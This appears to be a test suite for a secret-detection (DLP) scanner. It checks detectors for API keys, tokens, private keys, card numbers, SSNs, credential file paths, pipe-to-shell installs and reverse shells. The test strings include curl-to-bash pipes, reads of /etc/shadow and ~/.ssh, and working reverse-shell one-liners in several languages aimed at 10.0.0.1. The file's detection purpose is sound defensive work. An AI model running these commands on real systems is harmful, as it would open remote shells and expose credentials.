import assert from "node:assert/strict";
import { DETECTOR_NAMES, DETECTORS } from "./detectors.ts";
import { compileScanner } from "./scanner.ts";
import {
  chatPayload,
  fakePem,
  fakeSecrets,
  realPkcs8Pem,
} from "../../tests/support/dlp_samples.ts";

const S = fakeSecrets(7);
const all = compileScanner({ detectors: DETECTOR_NAMES });

/** Positive: `[text, expected matched substring]`. */
type Positive = [string, string];

function only(detector: string) {
  return compileScanner({ detectors: [detector] });
}

function checkPositives(detector: string, cases: Positive[]) {
  const sc = only(detector);
  for (const [text, want] of cases) {
    const found = sc.scan(text).map((f) => text.slice(f.start, f.end));
    assert(
      found.includes(want),
      `${detector}: expected ${JSON.stringify(want)} in ${JSON.stringify(text)}, got ${
        JSON.stringify(found)
      }`,
    );
  }
}

function checkNearMisses(detector: string, cases: string[]) {
  const sc = only(detector);
  for (const text of cases) {
    const found = sc.scan(text).map((f) => text.slice(f.start, f.end));
    assert.deepEqual(found, [], `${detector} must not fire on ${JSON.stringify(text)}`);
  }
}

/** A base64 "image" that happens to contain an anchor in its middle. */
function b64With(anchor: string): string {
  return "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAf" + anchor +
    "FcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
}

const UUIDS = "550e8400-e29b-41d4-a716-446655440000 123e4567-e89b-12d3-a456-426614174000";
const SHAS =
  "commit 3f786850e387550fdab836ed7e6dc881de23001b and 9fceb02d0ae598e95dc970b74767f19372d61af8";

Deno.test("detector list: 16 stable names, each with a one-line description", () => {
  assert.deepEqual([...DETECTOR_NAMES], [
    "aws_access_key",
    "aws_secret_key",
    "github_token",
    "private_key",
    "openai_key",
    "anthropic_key",
    "slack_token",
    "jwt",
    "stripe_key",
    "google_api_key",
    "credit_card",
    "us_ssn",
    "ssh_path",
    "dotfile_path",
    "shell_pipe",
    "reverse_shell",
  ]);
  for (const d of DETECTORS) {
    assert(/^[a-z][a-z0-9_]*$/.test(d.name));
    assert(d.description.length > 10 && !d.description.includes("\n"), d.name);
    assert(/^[A-Z]/.test(d.description) && !d.description.endsWith("."), d.name);
  }
});

Deno.test("aws_access_key", () => {
  const id = S.aws_access_key;
  checkPositives("aws_access_key", [
    ["aws_access_key_id = AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"],
    [`{"AccessKeyId":"${id}"}`, id],
    ["ASIA" + id.slice(4), "ASIA" + id.slice(4)],
    [`X-Amz-Credential=${id}%2F20240101%2Fus-east-1`, id],
    [`export AWS_ACCESS_KEY_ID=${id}\n`, id],
  ]);
  checkNearMisses("aws_access_key", [
    "AKIAIOSFODNN7EXAMPL", // 19
    "AKIAIOSFODNN7EXAMPLEX", // 21
    "xAKIAIOSFODNN7EXAMPLE",
    "AKIAIOSFODNN7EXAMPLEabc",
    "AKIA is the prefix of an access key id",
    b64With("AKIAIOSFODNN7EXAMPLE"),
    UUIDS,
    SHAS,
  ]);
});

Deno.test("aws_secret_key needs a 'secret' keyword nearby", () => {
  const k = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
  checkPositives("aws_secret_key", [
    [`aws_secret_access_key = ${k}`, k],
    [`AWS_SECRET_ACCESS_KEY=${k}`, k],
    [`{"SecretAccessKey": "${S.aws_secret_key}"}`, S.aws_secret_key],
    [`secret: ${k}\n`, k],
  ]);
  checkNearMisses("aws_secret_key", [
    `key: ${k}`, // no context
    `secret: 3f786850e387550fdab836ed7e6dc881de23001b`, // git SHA-1
    `secret: ${k}X`, // 41 characters
    `secret: ${"x".repeat(100)} ${k}`, // keyword too far
    `secret_image: ${b64With("K7MDENG")}`,
    `secret: ThisIsALongCamelCaseIdentifierWithoutDg`, // no digit or / +
    `secret = "${"a".repeat(40)}"`,
  ]);
});

Deno.test("github_token", () => {
  const body = S.github_token.slice(4);
  checkPositives("github_token", [
    [`token ${S.github_token}`, S.github_token],
    [`"gho_${body}"`, `gho_${body}`],
    [`ghu_${body}`, `ghu_${body}`],
    [`ghs_${body}`, `ghs_${body}`],
    [`ghr_${body}`, `ghr_${body}`],
    [`Authorization: token ${S.github_pat}`, S.github_pat],
    [`https://x-access-token:${S.github_token}@github.com/o/r.git`, S.github_token],
  ]);
  checkNearMisses("github_token", [
    "ghp_short",
    `xghp_${body}`,
    `ghx_${body}`,
    `ghp_${body}_suffix`,
    "github_pat_tooShort123",
    "the ghp_ prefix marks a personal access token",
    SHAS,
  ]);
});

Deno.test("private_key: PEM and OpenSSH, with or without the end line", async () => {
  const real = await realPkcs8Pem();
  const cases: Positive[] = [
    [`key:\n${real}\n`, real],
    ...(["RSA", "EC", "DSA", "OPENSSH", "ENCRYPTED", ""] as const).map((k): Positive => {
      const pem = fakePem(k, 3);
      return [`here it is ${pem} thanks`, pem];
    }),
  ];
  const pem = fakePem("RSA", 4);
  const cut = pem.slice(0, 400); // truncated body: header + body still caught
  cases.push([cut, cut.trimEnd()]);
  const legacy = pem.replace(
    "-----\n",
    "-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,3F17F5316E2BAC89\n\n",
  );
  cases.push([legacy, legacy]);
  checkPositives("private_key", cases);
  checkNearMisses("private_key", [
    "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n-----END PUBLIC KEY-----",
    "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBa\n-----END CERTIFICATE-----",
    "A key file starts with -----BEGIN RSA PRIVATE KEY----- and ends with -----END RSA PRIVATE KEY-----.",
    "-----BEGIN OPENSSH PRIVATE KEY-----",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl user@host",
  ]);
});

Deno.test("openai_key, not sk-ant-", () => {
  const svc = "sk-" + "svcacct-" + S.openai_key.slice(3);
  checkPositives("openai_key", [
    [`OPENAI_API_KEY=${S.openai_key}`, S.openai_key],
    [`Authorization: Bearer ${S.openai_project_key}`, S.openai_project_key],
    [`"${svc}"`, svc],
  ]);
  checkNearMisses("openai_key", [
    "a task-based approach, risk-free, disk-usage, kiosk-mode, whisk-y",
    "pip install sk-learn; import sklearn",
    "sk-this-is-a-long-kebab-case-identifier-name",
    "sk-" + "a".repeat(48),
    S.anthropic_key,
    "ask-" + S.openai_key.slice(3),
    "sk-Ab1", // short
  ]);
});

Deno.test("anthropic_key", () => {
  checkPositives("anthropic_key", [
    [`x-api-key: ${S.anthropic_key}`, S.anthropic_key],
    [`{"key":"${S.anthropic_key}"}`, S.anthropic_key],
  ]);
  checkNearMisses("anthropic_key", [
    "sk-ant-short",
    "sk-ant-" + "abcdefghij".repeat(5),
    "the sk-ant- prefix",
    S.openai_key,
  ]);
});

Deno.test("slack_token and webhooks", () => {
  const xoxp = "xo" + "xp-" + S.slack_token.slice(5);
  checkPositives("slack_token", [
    [`SLACK_BOT_TOKEN=${S.slack_token}`, S.slack_token],
    [`token=${xoxp}&channel=C1`, xoxp],
    [`post to ${S.slack_webhook} now`, S.slack_webhook],
    [`"url": "${S.slack_webhook}"`, S.slack_webhook],
  ]);
  checkNearMisses("slack_token", [
    "xoxo-hugs-and-kisses-from-all-of-us",
    "xoxb-short",
    "https://hooks.slack.com/services/",
    "https://hooks.slack.com/services/T000/B000/x",
    "see api.slack.com/messaging/webhooks",
  ]);
});

Deno.test("jwt", () => {
  const noAlg = btoa('{"foo":"bar","x":1}').replace(/=+$/, "") + "." +
    btoa('{"sub":"12345678901234"}').replace(/=+$/, "");
  checkPositives("jwt", [
    [`Authorization: Bearer ${S.jwt}`, S.jwt],
    [`{"id_token":"${S.jwt}"}`, S.jwt],
    [`cookie: session=${S.jwt}; Path=/`, S.jwt],
    [
      S.jwt.slice(0, S.jwt.lastIndexOf(".")) + " (unsigned)",
      S.jwt.slice(0, S.jwt.lastIndexOf(".")),
    ],
  ]);
  checkNearMisses("jwt", [
    "eyJhbGciOi",
    b64With("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc"),
    noAlg,
    btoa('{"alg":"HS256","typ":"JWT","kid":"abc"}'), // a header alone, no dot
    UUIDS,
  ]);
});

Deno.test("stripe_key: live secret and restricted keys only", () => {
  const rk = "rk" + S.stripe_key.slice(2);
  checkPositives("stripe_key", [
    [`STRIPE_SECRET_KEY=${S.stripe_key}`, S.stripe_key],
    [`-u ${rk}:`, rk],
  ]);
  checkNearMisses("stripe_key", [
    "sk" + "_test_" + S.stripe_key.slice(8),
    "pk" + S.stripe_key.slice(2),
    "sk_live_short",
    "ask" + S.stripe_key.slice(2),
  ]);
});

Deno.test("google_api_key", () => {
  checkPositives("google_api_key", [
    [`?key=${S.google_api_key}&q=x`, S.google_api_key],
    [`"apiKey": "${S.google_api_key}"`, S.google_api_key],
  ]);
  checkNearMisses("google_api_key", [
    S.google_api_key.slice(0, -1),
    S.google_api_key + "x",
    "x" + S.google_api_key,
    b64With("AIzaSyA"),
  ]);
});

Deno.test("credit_card: Luhn, brands, groups", () => {
  checkPositives("credit_card", [
    ["card 4111111111111111 exp 12/29", "4111111111111111"],
    ["4111 1111 1111 1111", "4111 1111 1111 1111"],
    ["4111-1111-1111-1111", "4111-1111-1111-1111"],
    ["amex 3782 822463 10005", "3782 822463 10005"],
    ["378282246310005", "378282246310005"],
    ["5555555555554444", "5555555555554444"],
    ["2223003122003222", "2223003122003222"],
    ["6011111111111117", "6011111111111117"],
    ["3530111333300000", "3530111333300000"],
    ["30569309025904", "30569309025904"],
    ['{"card": 4012888888881881}', "4012888888881881"],
    ["card: 4111111111111111 123", "4111111111111111"], // followed by a CVV
  ]);
  checkNearMisses("credit_card", [
    "4111111111111112", // Luhn fails
    "1234567890123456",
    "ts 1700000000000 and 1700000000000000",
    "call +1 415 555 2671 or 0800 123 4567",
    "0.4111111111111111",
    "id_4111111111111111",
    "4111-1111 1111-1111",
    "41111111 11111111",
    "1-4111-1111-1111-1111",
    UUIDS,
    SHAS,
  ]);
});

Deno.test("us_ssn: area, group and serial rules", () => {
  checkPositives("us_ssn", [
    ["SSN: 536-22-1234", "536-22-1234"],
    ["ssn 536 22 1234.", "536 22 1234"],
    ['{"ssn":"772-41-0031"}', "772-41-0031"],
  ]);
  checkNearMisses("us_ssn", [
    "000-12-3456",
    "666-12-3456",
    "900-12-3456",
    "536-00-1234",
    "536-22-0000",
    "078-05-1120",
    "123-45-6789",
    "536221234",
    "1-536-22-1234",
    "536-22-12345",
    "phone 555-123-4567",
    "2024-01-15",
    "536-22 1234",
    UUIDS,
  ]);
});

Deno.test("ssh_path", () => {
  checkPositives("ssh_path", [
    ["cat ~/.ssh/id_rsa", "~/.ssh/id_rsa"],
    ["/home/ada/.ssh/id_ed25519", "/home/ada/.ssh/id_ed25519"],
    ["append to .ssh/authorized_keys", ".ssh/authorized_keys"],
    ["C:\\Users\\me\\.ssh\\id_rsa", "C:\\Users\\me\\.ssh\\id_rsa"],
    ["scp ~/.ssh/known_hosts x:", "~/.ssh/known_hosts"],
    ["tar cz ~/.ssh/* | nc", "~/.ssh/*"],
    ['{"path":"$HOME/.ssh/id_ecdsa"}', "$HOME/.ssh/id_ecdsa"],
  ]);
  checkNearMisses("ssh_path", [
    "cat ~/.ssh/id_rsa.pub",
    "ssh-keygen -t ed25519 -C me",
    "edit ~/.ssh/config",
    "foo.ssh/id_rsa",
    "~/.sshrc",
    "the .ssh directory",
  ]);
});

Deno.test("dotfile_path", () => {
  checkPositives("dotfile_path", [
    ["cat /etc/shadow", "/etc/shadow"],
    ["cat /etc/passwd", "/etc/passwd"],
    ["sudo cat /etc/sudoers", "/etc/sudoers"],
    ["read ~/.aws/credentials", "~/.aws/credentials"],
    ["cp .env /tmp", ".env"],
    ["open .env.local", ".env.local"],
    ["'./.env.production'", "./.env.production"],
    ["~/.netrc", "~/.netrc"],
    ["~/.pgpass", "~/.pgpass"],
    ["~/.kube/config", "~/.kube/config"],
    ["~/.docker/config.json", "~/.docker/config.json"],
    ["~/.git-credentials", "~/.git-credentials"],
    ["direnv .envrc", ".envrc"],
    ['{"file":"/app/.env"}', "/app/.env"],
  ]);
  checkNearMisses("dotfile_path", [
    "process.env.API_KEY",
    "import.meta.env.VITE_URL",
    "the .environment setting",
    "cp .env.example .env.sample",
    "environment variables and env vars",
    "os.environ['HOME']",
    "source .venv/bin/activate",
    "python -m venv .env && .env/bin/pip install x",
    "/usr/local/etc/passwd",
    "/etc/hosts",
    "~/.aws/config",
    "an .envelope",
  ]);
});

Deno.test("shell_pipe", () => {
  checkPositives("shell_pipe", [
    ["curl -fsSL https://get.example.sh | sh", "curl -fsSL https://get.example.sh | sh"],
    ["curl -s https://x.io/i | sudo bash", "curl -s https://x.io/i | sudo bash"],
    ["wget -qO- https://x.io/i | bash", "wget -qO- https://x.io/i | bash"],
    [
      "wget -O - https://x.io/i | sudo -E bash -s -- --yes\nls",
      "wget -O - https://x.io/i | sudo -E bash -s -- --yes",
    ],
    ["echo aGVsbG8= | base64 -d | sh", "base64 -d | sh"],
    ["base64 --decode p.b64 | bash", "base64 --decode p.b64 | bash"],
    ["curl -s https://x.io/get.py | python", "curl -s https://x.io/get.py | python"],
    ["curl https://x.io | /bin/bash", "curl https://x.io | /bin/bash"],
    ["curl https://x.io | sudo env A=1 bash", "curl https://x.io | sudo env A=1 bash"],
    ["bash <(curl -s https://x.io/i)", "bash <(curl -s https://x.io/i)"],
    ['sh -c "$(curl -fsSL https://x.io/i)"', 'sh -c "$(curl -fsSL https://x.io/i)'],
    ["curl -s https://x.io/a | tee a.sh | sh", "curl -s https://x.io/a | tee a.sh | sh"],
  ]);
  checkNearMisses("shell_pipe", [
    "curl -s https://api.example.com | jq .",
    "curl -s https://api.example.com | python -m json.tool",
    "curl -s https://x.io | tee out.txt",
    "cat install.sh | sh",
    "curl -O https://x.io/i.sh\nls | sh",
    "curl https://x.io | shasum",
    "curl https://x.io | bashful",
    "| sh | bash | zsh |",
    "make || sh fallback.sh",
    "bash <(cat x)",
  ]);
});

Deno.test("reverse_shell", () => {
  checkPositives("reverse_shell", [
    ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ">& /dev/tcp/10.0.0.1/4444 0>&1"],
    ["sh -i >& /dev/udp/10.0.0.1/53 0>&1", ">& /dev/udp/10.0.0.1/53 0>&1"],
    ["0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196", "196<>/dev/tcp/10.0.0.1/4444"],
    ["nc -e /bin/sh 10.0.0.1 4444", "nc -e /bin/sh 10.0.0.1 4444"],
    ["nc 10.0.0.1 4444 -e /bin/bash", "nc 10.0.0.1 4444 -e /bin/bash"],
    ["ncat --exec /bin/bash 10.0.0.1 4444", "ncat --exec /bin/bash 10.0.0.1 4444"],
    ["nc.traditional -e /bin/sh 1.2.3.4 80", "nc.traditional -e /bin/sh 1.2.3.4 80"],
    ["nc -c bash 10.0.0.1 4444", "nc -c bash 10.0.0.1 4444"],
    ["nc.exe 10.0.0.1 4444 -e cmd.exe", "nc.exe 10.0.0.1 4444 -e cmd.exe"],
    [
      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
      "mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ",
    ],
    ["nc 10.0.0.1 4444 | /bin/sh | nc 10.0.0.1 4445", "| /bin/sh | nc"],
  ]);
  const oneLiners: string[] = [
    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
    `perl -e 'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'`,
    `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
    `ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
    `php -r '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'`,
    `socat tcp-connect:10.0.0.1:4242 exec:sh,pty,stderr,setsid`,
    `powershell -nop -c "$c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);}"`,
    `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { s |& getline c; print c |& s }}' /dev/null`,
  ];
  const sc = only("reverse_shell");
  for (const t of oneLiners) assert.deepEqual(sc.scan(t).length >= 1, true, t);
  checkNearMisses("reverse_shell", [
    "nc -zv example.com 22",
    "nc -l 8080 > file.bin",
    "bash supports /dev/tcp/host/port pseudo-files",
    "ls /dev/tty /dev/null",
    `python -c 'import socket; s=socket.socket(); s.connect((h, p)); s.send(b"hi")'`,
    "mkfifo /tmp/pipe && cat /tmp/pipe",
    "socat TCP-LISTEN:80,fork TCP:backend:80",
    "async function f() { return sync -e; }",
    "ruby: TCPSocket.open(host, port).puts 'hi'",
  ]);
});

Deno.test("near-miss corpus: no detector fires", async () => {
  const text = await Deno.readTextFile(
    new URL("../../tests/fixtures/dlp/near_misses.txt", import.meta.url),
  );
  const lines = text.split("\n").filter((l) => l.trim() && !l.startsWith("#"));
  assert(lines.length > 50);
  for (const line of lines) {
    const found = all.scan(line).map((f) => `${f.detector}: ${line.slice(f.start, f.end)}`);
    assert.deepEqual(found, [], `near miss fired: ${JSON.stringify(line)}`);
  }
});

Deno.test("realistic chat payloads (prose, code, base64 image, UUIDs, SHAs): no findings", () => {
  for (const size of [1_000, 100_000, 1_000_000]) {
    for (const seed of [1, 2, 3]) {
      const found = all.scan(chatPayload(size, seed));
      assert.deepEqual(found, [], `size ${size} seed ${seed}`);
    }
  }
});

Deno.test("every fake secret is found by its own detector in a chat payload", () => {
  const want: Record<string, string> = {
    aws_access_key: S.aws_access_key,
    github_token: S.github_token,
    openai_key: S.openai_project_key,
    anthropic_key: S.anthropic_key,
    slack_token: S.slack_webhook,
    jwt: S.jwt,
    stripe_key: S.stripe_key,
    google_api_key: S.google_api_key,
  };
  const base = chatPayload(20_000, 9);
  for (const [detector, secret] of Object.entries(want)) {
    const at = base.indexOf("please");
    const text = base.slice(0, at) + secret + " " + base.slice(at);
    const f = all.scan(text);
    assert.deepEqual(
      f.map((x) => [x.detector, text.slice(x.start, x.end)]),
      [[detector, secret]],
    );
  }
});
